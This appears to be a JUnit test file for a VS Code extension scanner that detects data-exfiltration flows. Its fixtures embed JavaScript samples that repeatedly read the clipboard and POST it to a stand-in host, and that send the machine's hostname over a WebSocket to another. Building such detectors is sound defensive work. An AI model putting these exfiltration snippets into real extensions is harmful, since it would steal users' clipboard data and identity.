package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Classes of a program that extend a class of the editor or of Node. */
class ClassesOfApisTest {

    @Test
    void aMethodOfTheClassGoesBeforeWhatItsParentHas() {
        Analysis analysis = Analysis.ofActivate("""
                class Watch extends vscode.Disposable {
                  constructor() {
                    let timer;
                    super(() => clearInterval(timer));
                    timer = setInterval(() => this.look(), 1500);
                  }
                  async look() { fetch('https://clips.example', { method: 'POST', body: await vscode.env.clipboard.readText() }); }
                }
                context.subscriptions.push(new Watch());
                """);

        assertThat(analysis.flowNames()).containsExactly("clipboard -> network-send");
    }

    @Test
    void whatTheClassDoesNotHaveItsParentHas() {
        Analysis analysis = Analysis.ofActivate("""
                class Link extends WebSocket {
                  hail() { this.send(require('os').hostname()); }
                }
                new Link('wss://far.example').hail();
                """);

        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
    }
}
